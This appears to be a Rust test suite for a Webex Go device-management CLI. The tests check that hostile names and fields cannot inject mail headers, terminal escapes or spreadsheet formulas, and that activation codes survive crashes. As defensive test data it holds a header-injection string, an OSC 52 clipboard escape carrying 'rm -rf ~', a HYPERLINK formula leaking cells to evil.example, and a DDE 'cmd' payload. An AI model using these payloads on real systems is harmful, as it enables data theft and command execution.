//! Untrusted data and one-time codes. Names, emails and numbers from directory
//! exports, spreadsheets and BroadWorks are hostile until shown otherwise: nothing they carry
//! acts on a terminal, a mail header or a spreadsheet; and an activation code reaches the admin
//! (stdout, the codes file) or the action does not count. Each test is named after the point of
//! the issue it proves. The real binary on a demo database.

use crate::common;
use crate::delivery_support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

const NOW: &str = "2026-11-22T09:00:00Z";
/// A name that tries everything: a line break with a header, OSC 52 (set the clipboard), a
/// window title, a bell, a carriage return, a C1 CSI, a bidi override and a zero-width space.
const HOSTILE: &str =
    "Dan\r\nBcc: evil@attacker.example\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}]0;pwned\u{7}\r\u{9b}31m\u{202e}evil\u{200b}";

struct Env {
    dir: tempfile::TempDir,
    db: PathBuf,
    outbox: PathBuf,
}

impl Env {
    fn demo() -> Env {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("tempdir: {e}"));
        let db = dir.path().join("wxgo.db");
        let outbox = dir.path().join("outbox");
        let env = Env { dir, db, outbox };
        let out = env.run(&["demo"]);
        assert!(out.status.success(), "demo failed: {}", text(&out.stderr));
        env
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = crate::common::wxgo_command();
        c.args(args)
            .env("WXGO_DB", &self.db)
            .env("WXGO_OUTBOX", &self.outbox)
            .env("WXGO_NOW", NOW)
            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
            .env_remove("WXGO_SMTP_URL")
            .env_remove("WXGO_TEST_CRASH_AT");
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd(args).output().unwrap_or_else(|e| panic!("cannot run wxgo: {e}"))
    }

    fn json(&self, args: &[&str]) -> Value {
        let mut all = args.to_vec();
        all.push("--json");
        let out = self.run(&all);
        assert!(out.status.success(), "wxgo {args:?} failed: {}", text(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("wxgo {args:?}: bad JSON {e}"))
    }

    fn file(&self, name: &str, contents: &[u8]) -> PathBuf {
        let p = self.dir.path().join(name);
        std::fs::write(&p, contents).unwrap_or_else(|e| panic!("{e}"));
        p
    }

    /// Puts a hostile value straight into the database, as an older wxgo, another tool or the
    /// Webex API could have left it: what is shown must be harmless however it got there.
    fn poison(&self, sql: &str, value: &str) {
        let c = rusqlite::Connection::open(&self.db).unwrap_or_else(|e| panic!("{e}"));
        c.execute(sql, [value]).unwrap_or_else(|e| panic!("{sql}: {e}"));
    }

    fn snapshot(&self) -> common::Snapshot {
        common::snapshot_file(&self.db)
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Bytes a terminal would act on, or that reorder what it shows.
fn assert_no_terminal_hazard(what: &str, bytes: &[u8]) {
    let s = text(bytes);
    for (i, c) in s.char_indices() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}');
        assert!(!bad, "{what}: U+{:04X} at byte {i} reaches the terminal: {:?}", c as u32, &s[i.saturating_sub(40)..]);
    }
}

const DAN: &str = "dan.dubois@acmefarms.example";

#[test]
fn a_line_break_in_a_name_is_refused_at_sync_with_line_and_column() {
    let env = Env::demo();
    let before = env.snapshot();
    let file = env.file(
        "dir.csv",
        format!("Email,Display Name,Work Phone Number,Department\n{DAN},\"Dan\nDubois\",+12142000002,Field\n")
            .as_bytes(),
    );
    let out = env.run(&["directory", "sync", file.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(err.contains("line 2, column 2 (Display Name)") && err.contains("line break"), "{err}");
    common::assert_unchanged(&before, &env.snapshot(), "a refused sync");

    // A 50 MB-class cell: refused with its length, not echoed.
    let huge = "x".repeat(2_000_000);
    let file = env.file("big.csv", format!("Email,Display Name\n{DAN},{huge}\n").as_bytes());
    let out = env.run(&["directory", "sync", file.to_str().unwrap_or_default()]);
    assert_eq!(out.status.code(), Some(4));
    let err = text(&out.stderr);
    assert!(err.contains("2000000 characters long") && err.len() < 1000, "{}", &err[..err.len().min(300)]);
}

#[test]
fn hostile_names_never_reach_a_mail_header_nor_crash_a_send() {
    let env = Env::demo();
    env.poison("UPDATE users SET display_name = ?1 WHERE email = 'dan.dubois@acmefarms.example'", HOSTILE);
    // To the outbox: one To header, no injected Bcc header.
    let out = env.run(&["devices", "new-code", "go-4"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let eml = std::fs::read_dir(&env.outbox)
        .unwrap_or_else(|e| panic!("{e}"))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .find(|p| p.extension().is_some_and(|x| x == "eml"))
        .unwrap_or_else(|| panic!("no message in the outbox"));
    let mail = std::fs::read_to_string(&eml).unwrap_or_else(|e| panic!("{e}"));
    let headers = mail.split("\r\n\r\n").next().unwrap_or_default();
    assert!(!headers.lines().any(|l| l.to_ascii_lowercase().starts_with("bcc:")), "{headers}");
    assert_eq!(headers.lines().filter(|l| l.starts_with("To:")).count(), 1, "{headers}");
    assert!(!headers.chars().any(|c| c.is_control() && c != '\r' && c != '\n'), "{headers:?}");

    // By SMTP to a server that is not there: no panic (exit 101 before), the code is shown.
    let out = env.cmd(&["devices", "new-code", "go-4"]).env("WXGO_SMTP_URL", "smtp://127.0.0.1:1").output().unwrap();
    assert!(out.status.success(), "exit {:?}: {}", out.status.code(), text(&out.stderr));
    assert!(text(&out.stdout).contains("Activation code:"), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("failed"), "{}", text(&out.stdout));
}

#[test]
fn cli_output_carries_no_terminal_control_from_data() {
    let env = Env::demo();
    env.poison("UPDATE users SET display_name = ?1 WHERE email = 'dan.dubois@acmefarms.example'", HOSTILE);
    env.poison("UPDATE users SET department = ?1 WHERE email = 'dan.dubois@acmefarms.example'", HOSTILE);
    env.poison("UPDATE bw_subscribers SET first_name = ?1", HOSTILE);
    env.poison("UPDATE audit SET details = ?1", HOSTILE);
    for args in [
        &["users", "list"][..],
        &["users", "list", "--filter", "dan"],
        &["users", "show", DAN],
        &["users", "list", "--not-provisioned"],
        &["devices", "list"],
        &["devices", "show", "go-4"],
        &["broadworks", "list"],
        &["audit"],
        &["users", "export"],
        &["broadworks", "export"],
    ] {
        for json in [false, true] {
            let mut all = args.to_vec();
            if json {
                all.push("--json");
            }
            let out = env.run(&all);
            assert!(out.status.success(), "{all:?}: {}", text(&out.stderr));
            assert_no_terminal_hazard(&format!("{all:?} stdout"), &out.stdout);
            assert_no_terminal_hazard(&format!("{all:?} stderr"), &out.stderr);
            if json && !args.contains(&"export") {
                // The JSON still says exactly what is stored.
                let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{all:?}: {e}"));
                if args == ["users", "show", DAN] {
                    assert_eq!(v["user"]["display_name"], HOSTILE);
                }
            }
        }
    }
    // The new-code output and an `error:` line with hostile input.
    let out = env.run(&["devices", "new-code", "go-4", "--no-email"]);
    assert!(out.status.success());
    assert_no_terminal_hazard("new-code", &out.stdout);
    let out = env.run(&["users", "show", "x\u{1b}]0;title\u{7}@y.example"]);
    assert_eq!(out.status.code(), Some(4));
    assert_no_terminal_hazard("error line", &out.stderr);
    assert!(text(&out.stderr).starts_with("error: no user"), "{}", text(&out.stderr));
    // A directory sync report naming a hostile file and the device import's error table.
    let bad = env.file("dev\u{1b}[2J.csv", b"Username,Type\n\xe2\x80\xaeevil@x.example\x1b[31m,USER\n");
    let out = env.run(&["devices", "import", bad.to_str().unwrap_or_default(), "--dry-run"]);
    assert_no_terminal_hazard("import table", &out.stdout);
    assert_no_terminal_hazard("import errors", &out.stderr);
}

#[test]
fn exports_never_hand_a_spreadsheet_a_formula() {
    let env = Env::demo();
    env.poison(
        "UPDATE users SET display_name = ?1 WHERE email = 'dan.dubois@acmefarms.example'",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    );
    env.poison("UPDATE users SET department = ?1 WHERE email = 'dan.dubois@acmefarms.example'", "@SUM(1+1)");
    env.poison("UPDATE bw_subscribers SET first_name = ?1", "+cmd|' /C calc'!A0");
    env.poison("UPDATE bw_subscribers SET last_name = ?1", "-2+3");
    for (args, needles) in [
        (&["users", "export"][..], &["=HYPERLINK", "@SUM"][..]),
        (&["broadworks", "export"][..], &["+cmd", "-2+3"][..]),
    ] {
        let out = env.run(args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&out.stdout[..]);
        let mut seen = 0;
        for row in reader.records() {
            let row = row.unwrap_or_else(|e| panic!("{e}"));
            for cell in row.iter() {
                let formula = cell.starts_with(['=', '@', '\t', '\r', '-'])
                    || (cell.starts_with('+') && !cell[1..].bytes().all(|b| b.is_ascii_digit()));
                assert!(!formula, "{args:?}: the cell {cell:?} is a formula");
                seen +=
                    needles.iter().filter(|n| cell == format!("'{n}") || cell.starts_with(&format!("'{n}"))).count();
            }
        }
        assert!(seen >= needles.len(), "{args:?}: the hostile cells were not found quoted");
    }
    // Phone numbers stay as Control Hub reads them.
    let users = text(&env.run(&["users", "export"]).stdout);
    assert!(users.contains(",+12142000002,"), "{users}");
}

#[test]
fn out_files_are_private_also_over_a_wider_file_or_a_symlink() {
    let env = Env::demo();
    let out_file = env.dir.path().join("users.csv");
    std::fs::write(&out_file, "old").unwrap_or_else(|e| panic!("{e}"));
    std::fs::set_permissions(&out_file, std::fs::Permissions::from_mode(0o644)).unwrap_or_else(|e| panic!("{e}"));
    let out = env.run(&["users", "export", "--out", out_file.to_str().unwrap_or_default()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mode = std::fs::metadata(&out_file).map(|m| m.permissions().mode() & 0o777).unwrap_or(0);
    assert_eq!(mode, 0o600);
    assert!(text(&out.stderr).contains("was readable by others (mode 0644)"), "{}", text(&out.stderr));

    let public = env.dir.path().join("public.txt");
    std::fs::write(&public, "public").unwrap_or_else(|e| panic!("{e}"));
    std::fs::set_permissions(&public, std::fs::Permissions::from_mode(0o644)).unwrap_or_else(|e| panic!("{e}"));
    let link = env.dir.path().join("bw.csv");
    std::os::unix::fs::symlink(&public, &link).unwrap_or_else(|e| panic!("{e}"));
    let out = env.run(&["broadworks", "export", "--out", link.to_str().unwrap_or_default()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&public).unwrap_or_default(), "public");
    assert!(!link.symlink_metadata().map(|m| m.file_type().is_symlink()).unwrap_or(true));
    assert_eq!(std::fs::metadata(&link).map(|m| m.permissions().mode() & 0o777).unwrap_or(0), 0o600);
    assert!(text(&out.stderr).contains("symbolic link"), "{}", text(&out.stderr));
}

/// Runs a code-issuing command with stdout on /dev/full, and, when the code goes nowhere else
/// (`--no-email`), with stdout closed (the shell closes fd 1 before it starts wxgo, so there is
/// no race with a reader going away; the process then finds /dev/null there).
fn broken_stdouts(env: &Env, args: &[&str]) -> Vec<Output> {
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap_or_else(|e| panic!("{e}"));
    let to_full = env.cmd(args).stdout(Stdio::from(full)).output().unwrap_or_else(|e| panic!("{e}"));
    if !args.contains(&"--no-email") {
        return vec![to_full];
    }
    let closed = env.cmd(&[]);
    let closed = Command::new("sh")
        .arg("-c")
        .arg("exec \"$0\" \"$@\" >&-")
        .arg(closed.get_program())
        .args(args)
        .envs(closed.get_envs().filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))))
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    vec![to_full, closed]
}

#[test]
fn wg04_a_code_that_cannot_be_shown_is_never_saved() {
    let env = Env::demo();
    let subs = env.json(&["subscriptions", "list"]);
    let sub = subs[0]["id"].as_str().unwrap_or_default().to_string();
    let free_user = env.json(&["users", "list"]);
    let candidate = free_user
        .as_array()
        .into_iter()
        .flatten()
        .find(|u| {
            u["device_status"].is_null()
                && !u["primary_number"].is_null()
                && u["licences"].to_string().contains("calling_professional")
                && u["location_country"] == "US"
        })
        .and_then(|u| u["email"].as_str())
        .unwrap_or_else(|| panic!("no eligible user"))
        .to_string();
    let online = env.json(&["devices", "list", "--status", "online"]);
    let online = online[0]["device_id"].as_str().unwrap_or_default().to_string();
    let commands: Vec<Vec<String>> = vec![
        vec!["devices", "new-code", "go-4", "--no-email"],
        vec!["devices", "new-code", "go-4"],
        vec!["devices", "lost-stolen", &online, "--no-email", "--yes"],
        vec!["devices", "add", "--user", &candidate, "--subscription", &sub, "--no-email"],
    ]
    .into_iter()
    .map(|v| v.into_iter().map(String::from).collect())
    .collect();
    for cmd in &commands {
        for json in [false, true] {
            let mut args: Vec<&str> = cmd.iter().map(String::as_str).collect();
            if json {
                args.push("--json");
            }
            let before = env.snapshot();
            for out in broken_stdouts(&env, &args) {
                assert_eq!(out.status.code(), Some(7), "{args:?}: {}", text(&out.stderr));
                let err = text(&out.stderr);
                assert!(err.contains("was not done") && err.contains("Nothing was changed"), "{err}");
                common::assert_unchanged(&before, &env.snapshot(), &format!("{args:?} with stdout broken"));
            }
        }
    }
    // The earlier code of go-4 still works: nothing was superseded.
    let codes = env.json(&["users", "show", DAN]);
    let valid = codes["codes"].as_array().into_iter().flatten().filter(|c| c["state"] == "valid").count();
    assert_eq!(valid, 1, "{codes}");
}

/// An import file of `rows` eligible users of the demo organisation.
fn import_csv(env: &Env, rows: usize) -> String {
    common::import_rows(&text(&env.run(&["devices", "template"]).stdout), &env.json(&["users", "list"]), rows)
}

/// Every code in the codes file is the valid code of its device in the database.
fn codes_match_database(db: &Path, codes: &Path) -> usize {
    let conn = rusqlite::Connection::open(db).unwrap_or_else(|e| panic!("{e}"));
    let mut reader = csv::Reader::from_path(codes).unwrap_or_else(|e| panic!("{e}"));
    let mut n = 0;
    for row in reader.records() {
        let row = row.unwrap_or_else(|e| panic!("{e}"));
        let device = row.get(2).unwrap_or_default().trim_start_matches("go-").parse::<i64>().unwrap_or(-1);
        let code = row.get(3).unwrap_or_default();
        let hash = wxgo::domain::ActivationCode::parse(code).map(|c| c.hash()).unwrap_or_default();
        let state: String = conn
            .query_row(
                "SELECT state FROM activation_codes WHERE code_hash = ?1 AND device_id = ?2",
                (&hash, device),
                |r| r.get(0),
            )
            .unwrap_or_else(|e| panic!("the code of go-{device} in the codes file is not in the database: {e}"));
        assert_eq!(state, "valid");
        n += 1;
    }
    n
}

#[test]
fn wg13_a_crash_at_every_step_of_an_import_never_keeps_devices_without_their_codes() {
    let env = Env::demo();
    let rows = 5;
    let csv_path = env.file("devices.csv", import_csv(&env, rows).as_bytes());
    let pristine = env.dir.path().join("pristine.db");
    std::fs::copy(&env.db, &pristine).unwrap_or_else(|e| panic!("{e}"));
    let count = |db: &Path| -> i64 {
        let c = rusqlite::Connection::open(db).unwrap_or_else(|e| panic!("{e}"));
        c.query_row("SELECT count(*) FROM devices", [], |r| r.get(0)).unwrap_or(-1)
    };
    let before = count(&pristine);
    for point in ["import-checked", "import-added", "import-codes-written", "import-saved", ""] {
        for suffix in ["", "-wal", "-shm"] {
            let _ = std::fs::remove_file(format!("{}{suffix}", env.db.display()));
        }
        std::fs::copy(&pristine, &env.db).unwrap_or_else(|e| panic!("{e}"));
        let codes = env.dir.path().join(format!("codes-{point}.csv"));
        let out = env
            .cmd(&["devices", "import", csv_path.to_str().unwrap_or_default(), "--no-email", "--codes-file"])
            .arg(&codes)
            .env("WXGO_TEST_CRASH_AT", point)
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        let devices = count(&env.db);
        if devices == before {
            assert!(!out.status.success(), "{point}: nothing added, yet exit 0");
        } else {
            assert_eq!(devices, before + rows as i64, "{point}: a partial import");
            assert!(codes.exists(), "{point}: the devices were saved without their codes file");
            assert_eq!(codes_match_database(&env.db, &codes), rows, "{point}");
            assert_eq!(std::fs::metadata(&codes).map(|m| m.permissions().mode() & 0o777).unwrap_or(0), 0o600);
        }
        if point.is_empty() {
            assert!(out.status.success(), "{}", text(&out.stderr));
            assert_eq!(devices, before + rows as i64);
        }
        if point == "import-saved" {
            assert_eq!(devices, before + rows as i64, "killed after the save: the devices are there");
        }
        if matches!(point, "import-checked" | "import-added") {
            assert_eq!(devices, before, "{point}: killed before the save");
            assert!(!codes.exists(), "{point}: a codes file of codes never saved");
        }
    }
}

#[test]
fn wg13_a_full_disk_under_the_codes_file_adds_nothing() {
    use std::sync::Arc;
    use wxgo::outside::files::FullDisk;
    use wxgo::service::{BulkOptions, EmailChoice, Options, Service};
    let env = Env::demo();
    let data = import_csv(&env, 4);
    let codes = env.dir.path().join("codes.csv");
    let before = env.snapshot();
    let clock = Arc::new(wxgo::outside::FixedClock::parse(NOW).unwrap_or_else(|e| panic!("{e}")));
    let svc = Service::open(&Options::new(&env.db), clock)
        .unwrap_or_else(|e| panic!("{e}"))
        .with_files(Arc::new(FullDisk { room: 100 }));
    let opts = BulkOptions {
        source: "devices.csv".into(),
        dry_run: false,
        email: EmailChoice::NoEmail,
        codes_file: Some(codes.clone()),
    };
    let err = svc.devices().import(data.as_bytes(), &opts, &mut |_| true).err().unwrap_or_else(|| panic!("imported"));
    let msg = err.to_string();
    assert!(msg.contains("No space left on device") && msg.contains("Nothing was changed"), "{msg}");
    assert_eq!(err.exit_code(), 7);
    drop(svc);
    common::assert_unchanged(&before, &env.snapshot(), "an import whose codes file hit a full disk");
    assert!(!codes.exists(), "an empty or partial codes file was left");
    let left: Vec<_> = std::fs::read_dir(env.dir.path()).unwrap().filter_map(|e| e.ok()).collect();
    assert!(left.iter().all(|e| !e.file_name().to_string_lossy().ends_with(".tmp")), "a temporary file was left");
}

#[test]
fn a_directory_column_the_file_lacks_changes_nothing() {
    let env = Env::demo();
    let before = env.json(&["users", "show", DAN]);
    let file = env.file("names.csv", format!("Email,Display Name\n{DAN},Daniel Dubois\n").as_bytes());
    let out = env.run(&["directory", "sync", file.to_str().unwrap_or_default()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let after = env.json(&["users", "show", DAN]);
    assert_eq!(after["user"]["display_name"], "Daniel Dubois");
    assert_eq!(after["user"]["work_phone"], before["user"]["work_phone"]);
    assert_eq!(after["user"]["department"], before["user"]["department"]);
    assert!(!before["user"]["work_phone"].is_null(), "the demo user has a work number to keep");

    // A blank name never replaces a name; an empty number cell does say "no number".
    let file = env.file("blank.csv", format!("Email,Display Name,Department\n{DAN},,\n").as_bytes());
    let out = env.run(&["directory", "sync", file.to_str().unwrap_or_default()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let after = env.json(&["users", "show", DAN]);
    assert_eq!(after["user"]["display_name"], "Daniel Dubois");
    assert!(after["user"]["department"].is_null(), "{}", after["user"]);
    assert_eq!(after["user"]["work_phone"], before["user"]["work_phone"]);
}

#[test]
fn wg13_a_million_problems_are_counted_not_kept() {
    let env = Env::demo();
    let header = text(&env.run(&["devices", "template"]).stdout).lines().next().unwrap_or_default().to_string();
    let mut data = format!("{header}\n");
    for i in 0..20_000 {
        data.push_str(&format!("nobody{i}@nowhere.example,USER,,,WEBEX_CALLING,Webex Go Device,,X,TRUE\n"));
    }
    let file = env.file("bad.csv", data.as_bytes());
    let out = env.run(&["devices", "import", file.to_str().unwrap_or_default(), "--dry-run", "--json"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"));
    let listed = v["problems"].as_array().map(Vec::len).unwrap_or(0);
    assert!(listed <= 200 && listed > 0, "{listed} problems listed");
    assert!(v["problems_total"].as_u64().unwrap_or(0) >= 20_000, "{}", v["problems_total"]);
    let out = env.run(&["devices", "import", file.to_str().unwrap_or_default(), "--dry-run"]);
    let shown = text(&out.stdout);
    assert!(shown.contains("more problem(s) not listed"), "{}", &shown[shown.len().saturating_sub(300)..]);
    assert!(out.stdout.len() < 200_000, "{} bytes printed for the problems", out.stdout.len());

    // A huge cell is echoed short.
    let huge = "y".repeat(1_000_000);
    let file = env
        .file("huge.csv", format!("{header}\n{DAN},{huge},,,WEBEX_CALLING,Webex Go Device,,Dallas,TRUE\n").as_bytes());
    let out = env.run(&["devices", "import", file.to_str().unwrap_or_default(), "--dry-run"]);
    assert_eq!(out.status.code(), Some(4));
    assert!(out.stdout.len() < 20_000, "{} bytes printed for one problem", out.stdout.len());
}

fn eml_count(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .map(|d| d.filter_map(|e| e.ok()).filter(|e| e.path().extension().is_some_and(|x| x == "eml")).count())
        .unwrap_or(0)
}

#[test]
fn wg04_a_queued_email_whose_code_no_longer_works_is_never_sent() {
    use delivery_support::{free_port, SmtpServer};
    let env = Env::demo();
    let port = free_port();
    let url = format!("smtp://127.0.0.1:{port}");
    let smtp = |args: &[&str]| env.cmd(args).env("WXGO_SMTP_URL", &url).output().unwrap_or_else(|e| panic!("{e}"));
    // The server is down: two new codes for go-4, both emails queued; the first is stale now.
    let first = smtp(&["devices", "new-code", "go-4", "--json"]);
    assert!(first.status.success(), "{}", text(&first.stderr));
    let second = smtp(&["devices", "new-code", "go-4", "--json"]);
    let second: Value = serde_json::from_slice(&second.stdout).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(eml_count(&env.outbox), 2);

    // An import with emails killed after the messages were queued, before the save: its
    // messages hold codes that never existed.
    let rows = 3;
    let csv_path = env.file("devices.csv", import_csv(&env, rows).as_bytes());
    let devices_before = env.json(&["devices", "list"]).as_array().map(Vec::len).unwrap_or(0);
    let out = env
        .cmd(&["devices", "import", csv_path.to_str().unwrap_or_default(), "--email-codes"])
        .env("WXGO_SMTP_URL", &url)
        .env("WXGO_TEST_CRASH_AT", "import-mail-queued")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!out.status.success());
    assert_eq!(env.json(&["devices", "list"]).as_array().map(Vec::len).unwrap_or(0), devices_before);
    assert_eq!(eml_count(&env.outbox), 2 + rows, "the crashed import's messages wait in the queue");

    // The server comes up: only the message with the working code goes out.
    let server = SmtpServer::start(port, &env.dir.path().join("received"));
    let retry = smtp(&["mail", "retry", "--json"]);
    let report: Value =
        serde_json::from_slice(&retry.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&retry.stdout)));
    assert_eq!(report["sent"].as_array().map(Vec::len), Some(1), "{report}");
    assert_eq!(report["stale"].as_array().map(Vec::len), Some(1 + rows), "{report}");
    let got = server.wait_for(1);
    assert_eq!(got.len(), 1);
    assert!(
        got[0].contains(second["activation_code"].as_str().unwrap_or("?")),
        "the working code was not the one sent"
    );
    assert_eq!(eml_count(&env.outbox), 0);
    assert_eq!(eml_count(&env.outbox.join("stale")), 1 + rows);

    // Killed right after the save: every device's email is already in the queue, none lost.
    let out = env
        .cmd(&["devices", "import", csv_path.to_str().unwrap_or_default(), "--email-codes"])
        .env("WXGO_SMTP_URL", "smtp://127.0.0.1:1")
        .env("WXGO_TEST_CRASH_AT", "import-saved")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!out.status.success());
    assert_eq!(env.json(&["devices", "list"]).as_array().map(Vec::len).unwrap_or(0), devices_before + rows);
    assert_eq!(eml_count(&env.outbox), rows);
    let retry = smtp(&["mail", "retry", "--json"]);
    let report: Value = serde_json::from_slice(&retry.stdout).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(report["sent"].as_array().map(Vec::len), Some(rows), "{report}");
    assert_eq!(server.wait_for(1 + rows).len(), 1 + rows);
}
